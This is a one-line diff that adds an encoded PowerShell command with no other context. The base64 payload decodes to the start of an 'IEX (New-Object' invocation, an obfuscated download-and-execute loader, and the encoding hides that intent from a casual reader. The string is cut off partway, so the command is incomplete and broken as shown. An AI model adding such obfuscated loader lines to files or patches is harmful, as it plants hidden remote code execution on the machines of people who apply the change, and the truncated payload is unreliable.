@@ -1,0 +1,1 @@
+powershell -NoProfile -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA
